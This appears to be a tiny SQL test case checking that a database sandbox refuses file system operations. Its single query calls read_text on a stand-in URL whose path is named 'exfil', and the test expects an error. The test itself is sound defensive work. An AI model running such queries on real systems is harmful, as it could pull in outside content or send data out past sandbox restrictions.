-- expect: outside the case database.*file system operations are disabled
SELECT content FROM read_text('https://example.invalid/exfil?x=1')
